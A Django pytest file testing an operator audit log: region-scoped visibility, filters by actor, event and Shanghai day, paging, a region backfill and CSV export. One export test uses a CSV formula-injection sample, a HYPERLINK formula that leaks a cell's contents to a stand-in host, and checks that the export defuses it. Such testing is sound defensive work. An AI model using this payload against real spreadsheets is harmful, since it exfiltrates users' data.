"""The operators' audit log: each row carries its record's region; operators read their regions' rows
(platform operators every row), filter them, page through them and export them as guarded CSV."""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
from django.apps import apps
from django.core.exceptions import FieldDoesNotExist
from django.test import Client

from kechuang.accounts.tests.scenario import build_world, person
from kechuang.core.audit import REGION_PATHS, record, region_of
from kechuang.core.models import AuditEntry
from kechuang.demands.factories import DemandFactory, EngagementFactory

SHANGHAI = ZoneInfo("Asia/Shanghai")
pytestmark = pytest.mark.django_db


def client_for(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def at(entry: AuditEntry, moment: datetime.datetime) -> AuditEntry:
    AuditEntry.objects.filter(pk=entry.pk).update(at=moment)
    entry.refresh_from_db()
    return entry


def test_every_region_path_leads_to_a_region():
    for label, path in REGION_PATHS.items():
        model = apps.get_model(label)
        for part in path.split("__"):
            try:
                field = model._meta.get_field(part)
            except FieldDoesNotExist:
                pytest.fail(f"{label}: {path} has no {part}")
            model = field.related_model
        assert model._meta.label_lower == "core.region", label


def test_a_row_carries_its_record_s_region_directly_or_through_its_parent():
    world = build_world()
    demand = DemandFactory(organization=world.org_a)
    engagement = EngagementFactory(demand=demand)
    assert record(world.member_a, "demands.demand.submit", demand).region == world.ruian
    assert record(world.member_a, "demands.engagement.request", engagement).region == world.ruian
    assert region_of(world.member_a) is None
    assert record(None, "accounts.mandate.grant", world.member_a).region is None


def test_operators_read_their_regions_rows_and_platform_operators_every_row():
    world = build_world()
    ruian = record(world.member_a, "demands.demand.submit", DemandFactory(organization=world.org_a))
    jiading = record(
        world.member_b, "demands.demand.submit", DemandFactory(organization=world.org_b)
    )
    platform = record(None, "accounts.mandate.grant", world.member_a)
    root = person("root", is_superuser=True, is_staff=True)

    def seen(user):
        return set(AuditEntry.objects.visible_to(user))

    assert seen(world.ruian_operator) == {ruian}
    assert seen(world.wenzhou_operator) == {ruian}  # the city reads the district below it
    assert seen(world.jiading_operator) == {jiading}
    assert seen(root) == {ruian, jiading, platform}
    assert seen(world.member_a) == set()

    page = client_for(world.ruian_operator).get("/manage/audit/")
    assert page.status_code == 200
    assert [row.entry for row in page.context["rows"]] == [ruian]
    assert client_for(world.member_a).get("/manage/audit/").status_code == 403
    assert client_for(world.member_a).get("/manage/audit/export.csv").status_code == 403
    assert Client().get("/manage/audit/").status_code == 302


def test_the_filters_narrow_by_actor_event_object_region_and_shanghai_day():
    world = build_world()
    demand = DemandFactory(organization=world.org_a)
    other = DemandFactory(organization=world.org_a)
    by_member = at(
        record(world.member_a, "demands.demand.submit", demand, "提交"),
        datetime.datetime(2026, 3, 1, 23, 30, tzinfo=SHANGHAI),
    )
    by_operator = at(
        record(world.ruian_operator, "demands.demand.approve", demand, "批准"),
        datetime.datetime(2026, 3, 2, 0, 30, tzinfo=SHANGHAI),  # 2026-03-01 16:30 UTC
    )
    on_other = at(
        record(world.ruian_operator, "demands.demand.approve", other, "批准"),
        datetime.datetime(2026, 3, 5, 9, 0, tzinfo=SHANGHAI),
    )
    mandate = record(world.ruian_operator, "accounts.membership.grant", world.member_a)
    root = person("root", is_superuser=True, is_staff=True)
    client = client_for(root)

    def rows(**query):
        response = client.get("/manage/audit/", query)
        assert response.status_code == 200
        return [row.entry for row in response.context["rows"]]

    assert rows(actor="member_a") == [by_member]
    assert rows(actor="ruian_op", app="demands") == [on_other, by_operator]
    assert rows(actor="ruian_op", event="demands.demand") == [on_other, by_operator]
    assert rows(event="demands.demand.submit") == [by_member]
    assert rows(app="accounts") == [mandate]
    assert rows(target_type="demands.demand", target_id=str(demand.pk)) == [by_operator, by_member]
    assert rows(app="demands", start="2026-03-02", end="2026-03-02") == [by_operator]
    assert rows(app="demands", start="2026-03-01", end="2026-03-01") == [by_member]
    assert rows(region="330381") == [on_other, by_operator, by_member]
    assert rows(region="310114") == []
    # An operator's region filter offers only their regions; another region's code is refused, not widened.
    ruian_op = client_for(world.ruian_operator)
    response = ruian_op.get("/manage/audit/", {"region": "310114"})
    assert response.status_code == 200 and response.context["form"].errors
    assert [row.entry for row in response.context["rows"]] == [on_other, by_operator, by_member]
    # A reversed range is reported and ignored; years outside the platform's range too.
    assert (
        client.get("/manage/audit/", {"start": "2026-03-05", "end": "2026-03-01"}).status_code
        == 200
    )
    assert client.get("/manage/audit/", {"start": "0001-01-01"}).status_code == 200


def test_the_row_links_its_record_and_shows_the_data_before_and_after():
    world = build_world()
    demand = DemandFactory(organization=world.org_a, title="永磁电机控制")
    record(
        world.ruian_operator,
        "demands.demand.approve",
        demand,
        "批准需求",
        before="pending",
        after="published",
    )
    page = client_for(world.ruian_operator).get("/manage/audit/")
    row = page.context["rows"][0]
    assert (row.type_label, row.target_label, row.target_url) == (
        "技术需求",
        "永磁电机控制",
        demand.get_absolute_url(),
    )
    assert row.details == [("before", "pending"), ("after", "published")]
    html = page.content.decode()
    assert f'href="{demand.get_absolute_url()}"' in html and "published" in html


def test_the_list_is_paged():
    world = build_world()
    demand = DemandFactory(organization=world.org_a)
    for n in range(55):
        record(world.member_a, "demands.demand.save", demand, f"保存 {n}")
    client = client_for(world.ruian_operator)
    assert len(client.get("/manage/audit/").context["rows"]) == 50
    assert len(client.get("/manage/audit/", {"page": 2}).context["rows"]) == 5
    assert client.get("/manage/audit/", {"page": "abc"}).status_code == 200


def test_the_export_is_the_filtered_rows_with_formula_text_guarded():
    world = build_world()
    demand = DemandFactory(organization=world.org_a)
    evil = '=HYPERLINK("http://evil.example/?leak="&G2,"点此")'
    entry = at(
        record(world.member_a, "demands.demand.save", demand, evil, title="@SUM(1)"),
        datetime.datetime(2026, 3, 1, 23, 30, tzinfo=SHANGHAI),
    )
    record(world.member_b, "demands.demand.save", DemandFactory(organization=world.org_b), "嘉定")
    response = client_for(world.ruian_operator).get(
        "/manage/audit/export.csv", {"actor": "member_a"}
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [
        ["时间", "操作人账号", "操作人", "事件", "对象类型", "对象编号", "区域", "摘要", "详情"],
        [
            "2026-03-01 23:30:00",
            "member_a",
            str(world.member_a),
            "demands.demand.save",
            "demands.demand",
            str(demand.pk),
            "瑞安市",
            "'" + evil,
            '{"title": "@SUM(1)"}',
        ],
    ]
    assert entry.region == world.ruian


def test_the_backfill_gives_old_rows_their_record_s_region():
    from importlib import import_module

    backfill = import_module("kechuang.core.migrations.0009_audit_entry_region_backfill").backfill
    world = build_world()
    engagement = EngagementFactory(demand=DemandFactory(organization=world.org_b))
    old = record(world.member_b, "demands.engagement.request", engagement)
    user_row = record(None, "accounts.mandate.grant", world.member_a)
    gone = AuditEntry.objects.create(
        action="demands.demand.save", target_type="demands.demand", target_id="999999"
    )
    AuditEntry.objects.update(region=None)
    backfill(apps, None)
    old.refresh_from_db(), user_row.refresh_from_db(), gone.refresh_from_db()
    assert (old.region, user_row.region, gone.region) == (world.jiading, None, None)
